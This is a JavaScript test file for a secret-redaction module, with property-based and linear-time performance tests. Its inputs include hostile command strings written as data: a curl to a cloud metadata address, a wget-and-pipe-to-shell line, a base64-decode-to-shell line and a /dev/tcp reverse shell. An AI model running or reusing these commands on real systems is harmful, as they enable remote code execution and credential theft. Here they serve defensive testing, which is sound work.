import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { quote, redact, REDACTED, truncate } from './redact.js';

const JWT =
  'eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMyJ9.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwic3ViIjoic3lzdGVtOnNlcnZpY2VhY2NvdW50OmRlZmF1bHQ6ZGVmYXVsdCJ9.c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU';
const BLOB = 'QUtJQUlPU0ZPRE5ON0VYQU1QTEUvd0phbHJYVXRuRkVNSS9LN01ERU5HL2JQeFJmaUNZRVhBTVBMRUtFWQ'.repeat(3);

describe('redact', () => {
  it.each([
    ['curl header', `curl -H "Authorization: Bearer ${JWT}" http://169.254.169.254/`, [JWT]],
    ['bare bearer', 'token is Bearer abcdefghijklmnop', ['abcdefghijklmnop']],
    ['basic auth header', 'Authorization: Basic dXNlcjpodW50ZXIy', ['dXNlcjpodW50ZXIy']],
    ['URL userinfo', 'wget http://admin:hunter2@203.0.113.9/x.sh|sh', ['hunter2']],
    ['key=value', 'PASSWORD=s3cr3t-P4ss mysql -u root', ['s3cr3t-P4ss']],
    ['--flag value', 'vault login --token s.abcdEFGH1234', ['s.abcdEFGH1234']],
    ['JWT alone', `TOKEN=${JWT}`, [JWT, JWT.split('.')[1]!]],
    ['JWT after a dash', `x-${JWT}`, [JWT.split('.')[1]!]],
    ['base64 blob', `echo ${BLOB} | base64 -d | sh`, [BLOB, BLOB.slice(0, 60)]],
    ['private key', 'private_key=MIIEvQIBADANBg', ['MIIEvQIBADANBg']],
  ])('%s: the secret is gone, the text around it stays', (_name, input, secrets) => {
    const out = redact(input);
    for (const secret of secrets) expect(out).not.toContain(secret);
    expect(out).toContain(REDACTED);
  });

  it('leaves ordinary commands alone', () => {
    for (const text of [
      'date; echo Hello from the Kubernetes cluster',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'pg_dump -h db -U app app > /backup/app.sql',
      'kubectl get secret db-credentials -o name',
      'image: registry.example.com/team/app@sha256:abc',
    ])
      expect(redact(text)).toBe(text);
  });

  // The one-line pattern the linear JWT pass replaced, kept here as the oracle on short inputs.
  const REFERENCE_JWT = /\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}/g;

  it('redacts JWTs exactly where the reference pattern does (differential, 3,000 strings)', () => {
    const piece = fc.oneof(
      fc.constantFrom('eyJ', '.', '-', '_', 'a', 'Z9', 'abcdefgh', 'eyJabcdefgh', ' ', '/', '+', '='),
      fc.string({ unit: fc.constantFrom('a', 'e', 'y', 'J', '.', '-', '_', '1'), maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const text = pieces.join('');
        // Compare the JWT pass alone: a text without base64 blobs or other secrets.
        fc.pre(!/[A-Za-z0-9+/]{48,}/.test(text));
        expect(redact(text)).toBe(text.replace(REFERENCE_JWT, REDACTED));
      }),
      { numRuns: 3000 },
    );
  });

  it.each([
    ['-eyJ', '-eyJ'],
    ['.eyJ', '.eyJaaaaaaaa'],
    ['bearer', 'bearer '],
    ['near-base64', `${'A'.repeat(47)}-`],
    ['userinfo', `http://${'a'.repeat(250)}:${'b'.repeat(250)} `],
    ['password', ' password '],
    ['password=', '-password:'],
    ['authorization', 'authorization: '],
    ['spaces', ' '],
    ['flags', '--password '],
    ['scheme', 'a://a:'],
  ])('finishes 1 MiB of %s repeats in linear time', (_name, unit) => {
    const text = unit.repeat(Math.ceil(2 ** 20 / unit.length));
    const started = Date.now();
    redact(text);
    // A generous bound: the quadratic `-eyJ` case took a minute for a fifth of this.
    expect(Date.now() - started).toBeLessThan(5_000);
  });
});

describe('quote', () => {
  it('is redacted, single-line and at most `max` characters', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 300 }),
        fc.integer({ min: 2, max: 120 }),
        (text, max) => {
          const out = quote(text, max);
          expect(Array.from(out).length).toBeLessThanOrEqual(max);
          // eslint-disable-next-line no-control-regex -- control characters are what quote() must remove
          expect(out).not.toMatch(/[\u0000-\u001f\u007f]/);
        },
      ),
      { numRuns: 1000 },
    );
    expect(quote(`sh -c "curl -H 'Authorization: Bearer ${JWT}' http://x"`, 80)).not.toContain('eyJ');
  });

  it('truncate keeps surrogate pairs whole', () => {
    expect(truncate('😀😀😀', 2)).toBe('😀…');
  });
});
